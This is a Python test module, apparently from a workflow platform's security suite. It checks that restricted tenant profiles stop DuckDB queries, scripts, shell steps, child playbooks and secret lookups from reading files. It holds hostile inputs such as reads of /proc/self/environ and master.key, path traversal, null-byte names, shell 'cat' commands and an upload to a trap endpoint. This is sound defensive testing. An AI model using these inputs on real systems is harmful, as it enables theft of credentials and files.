"""The profile belongs to the execution: every tool of a restricted one obeys it, and no playbook reads files where the operator gave no folder."""

from kit import Broken, attack, each, playbook

GROUP = "4 files"

SQL = {
    "read_text": "SELECT content FROM read_text('{canary}')",
    "read_blob": "SELECT content::VARCHAR FROM read_blob('{canary}')",
    "read_csv": "SELECT * FROM read_csv('{canary}', header=false)",
    "a file as a table": "SELECT * FROM '{canary}'",
    "a glob": "SELECT content FROM read_text('{folder}/*.txt')",
    "names by glob()": "SELECT * FROM glob('{folder}/*')",
    "sniff_csv": "SELECT * FROM sniff_csv('{canary}')",
    "read_json": "SELECT * FROM read_json('{canary}', format='auto', ignore_errors=true)",
    "COPY FROM": "CREATE TABLE t (a VARCHAR); COPY t FROM '{canary}'; SELECT * FROM t",
    "COPY TO": "COPY (SELECT 1) TO '{mark}'",
    "COPY TO, dollar quotes": "COPY (SELECT 1) TO $x${mark}$x$",
    "EXPORT DATABASE": "CREATE TABLE t AS SELECT 1; EXPORT DATABASE '{mark}'",
    "ATTACH": "ATTACH '{mark}' AS f; CREATE TABLE f.t AS SELECT 1",
    "ATTACH IF NOT EXISTS, double quotes": "ATTACH IF NOT EXISTS DATABASE \"{mark}\" AS f",
    "a folder that is set": "SET home_directory='{folder}'; SELECT content FROM read_text('~/canary.txt')",
    "a search path of files": "SET file_search_path='{folder}'; SELECT content FROM read_text('canary.txt')",
    "directories that are allowed": "SET allowed_directories=['{folder}']; SELECT content FROM read_text('{canary}')",
    "external access on again": "SET enable_external_access=true; SELECT content FROM read_text('{canary}')",
    "a log to a file": "CALL enable_logging(storage='file', storage_config={{'path': '{mark}'}}); SELECT 1",
    "a profile to a file": "PRAGMA enable_profiling='json'; PRAGMA profiling_output='{mark}'; SELECT 1",
    "an extension from a file": "LOAD '{folder}/x.duckdb_extension'",
    "secrets in files": "SET secret_directory='{mark}'; CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "a variable of the environment": "SELECT getenv('ATTACK_ENVIRONMENT')",
    "query() of a text": "SELECT * FROM query('SELECT content FROM read_text(''{canary}'')')",
    "a macro": "CREATE MACRO m(f) AS TABLE SELECT content FROM read_text(f); FROM m('{canary}')",
    "a prepared statement": "PREPARE p AS SELECT content FROM read_text('{canary}'); EXECUTE p",
    "a path behind /proc": "SELECT content FROM read_text('/proc/self/root{canary}')",
    "a file: address": "SELECT content FROM read_text('file://{canary}')",
    "the environment behind /proc": "SELECT content FROM read_text('/proc/self/environ')",
    "the master key": "SELECT content FROM read_text('{data}/master.key')",
}


def filled(c, text, mark):
    return text.format(canary=c.canary_file, folder=c.canary_file.rsplit("/", 1)[0], mark=mark, data=c.data)


def keys(c):
    found = []
    import os
    for name in ("master.key", "console.password"):
        path = os.path.join(c.data, name)
        if os.path.exists(path):
            with open(path) as lines:
                found.append(lines.read().strip())
    return [k for k in found if len(k) > 7]


def safe(c, run, mark):
    c.no_canary(run.text)
    for key in keys(c):
        if key in run.text:
            raise Broken("a key of the server is seen")
    c.must_end(run)
    c.unmarked(mark)


@each(GROUP, {"duckdb: " + name: sql for name, sql in SQL.items()})
def sql(c, text):
    mark = c.mark()
    safe(c, c.step({"kind": "duckdb", "query": filled(c, text, mark)}, "tenants/red"), mark)


@each(GROUP, {"duckdb: a database's file": "database", "duckdb: a database's path": "db_path"})
def database(c, name):
    mark = c.mark()
    safe(c, c.step({"kind": "duckdb", name: mark, "query": "CREATE TABLE t AS SELECT 1"}, "tenants/red"), mark)


SCRIPTS = {
    "python, restricted": ("tenants/red", "python"), "python, trusted": ("ops", "python"), "duckdb, restricted": ("tenants/red", "duckdb"),
    "duckdb, trusted": ("ops", "duckdb"), "postgres, restricted": ("tenants/red", "postgres"), "snowflake, restricted": ("tenants/red", "snowflake"),
}


@each(GROUP, {"script: " + name: where for name, where in SCRIPTS.items()})
def script(c, where):
    folder, kind = where
    for uri in (c.canary_file, "file://" + c.canary_file, "../" * 20 + c.canary_file[1:], "/proc/self/root" + c.canary_file):
        safe(c, c.step({"kind": kind, "auth": "green_api", "script": {"uri": uri, "source": {"type": "file"}}}, folder), c.mark())


@attack(GROUP, "script: the console's password in an error")
def password(c):
    for name in ("console.password", "master.key"):
        safe(c, c.step({"kind": "python", "script": {"uri": f"{c.data}/{name}", "source": {"type": "file"}}}, "ops"), c.mark())


CHILD = "import os\nname = input_data.get('name')\nresult = open(name).read() if os.path.exists(name) else 'none'"


@attack(GROUP, "a trusted child of a restricted playbook")
def child(c):
    path = c.path("ops")
    c.register(playbook(path, [{"step": "start", "tool": {"kind": "python", "args": {"name": "{{ workload.name }}"},
                                                          "code": "result = open(name).read()"}}]))
    safe(c, c.step({"kind": "playbook", "path": path, "args": {"name": c.canary_file}}, "tenants/red"), c.mark())


@attack(GROUP, "a trusted grandchild, by a loop")
def grandchild(c):
    reads, middle = c.path("ops"), c.path("ops")
    c.register(playbook(reads, [{"step": "start", "tool": {"kind": "python", "args": {"name": "{{ workload.name }}"},
                                                           "code": "result = open(name).read()"}}]))
    c.register(playbook(middle, [{"step": "start", "loop": {"in": ["{{ workload.name }}"], "iterator": "n"},
                                  "tool": {"kind": "playbook", "path": reads, "args": {"name": "{{ n }}"}}}]))
    safe(c, c.step({"kind": "playbook", "path": middle, "args": {"name": c.canary_file}}, "tenants/red"), c.mark())


@attack(GROUP, "a rerun of a restricted execution")
def rerun(c):
    run = c.python(f"result = open('{c.canary_file}').read()")
    if run.execution:
        reply = c.call("POST", f"/api/executions/{run.execution}/rerun", {}, "operator")
        if reply.status == 200:
            again = reply.json().get("execution_id")
            if again:
                safe(c, c.ended(str(again)), c.mark())
    safe(c, run, c.mark())


SECRETS = {"dots": "../outside/canary.txt", "absolute": None, "a null": "given\u0000x", "dots within": "x/../../outside/canary.txt"}


@each(GROUP, {"secrets of files: " + name: value for name, value in SECRETS.items()})
def secret(c, name):
    safe(c, c.step({"kind": "secrets", "provider": "file", "name": name or c.canary_file}, "tenants/red"), c.mark())


@attack(GROUP, "secrets of the environment")
def environment_secret(c):
    for name in ("ATTACK_ENVIRONMENT", "PATH", "NOETL_ACCESS_ADMINKEYFILE"):
        run = c.step({"kind": "secrets", "provider": "env", "name": name}, "tenants/red")
        if run.done:
            raise Broken("it was given: " + run.detail[-200:])


@attack(GROUP, "an upload to a bucket")
def upload(c):
    trap = c.traps.new()
    for folder in ("tenants/red", "ops"):
        run = c.step({"kind": "gcs", "source": c.canary_file, "destination": "gs://b/x", "endpoint": trap.url(), "credential": "green_api"}, folder)
        c.no_canary(run.text)
    trap.check()


@attack(GROUP, "a script on the server itself")
def process(c):
    mark = c.mark()
    for folder in ("tenants/red",):
        run = c.step({"kind": "script", "runtime": "process", "code": f"echo x > {mark}", "script": f"echo x > {mark}"}, folder)
        safe(c, run, mark)


@attack(GROUP, "a command of the shell")
def shell(c):
    mark = c.mark()
    for folder in ("tenants/red", "ops"):
        for field in ("command", "cmds", "script"):
            safe(c, c.step({"kind": "shell", field: f"touch {mark}; cat {c.canary_file}"}, folder), mark)


@attack(GROUP, "a sink into a file")
def sink(c):
    mark = c.mark()
    run = c.run(playbook(c.path("tenants/red"), [
        {"step": "start", "tool": {"kind": "python", "code": "result = [{'a': 1}]"},
         "sink": {"tool": {"kind": "duckdb", "database": mark, "table": "t"}}}]))
    safe(c, run, mark)
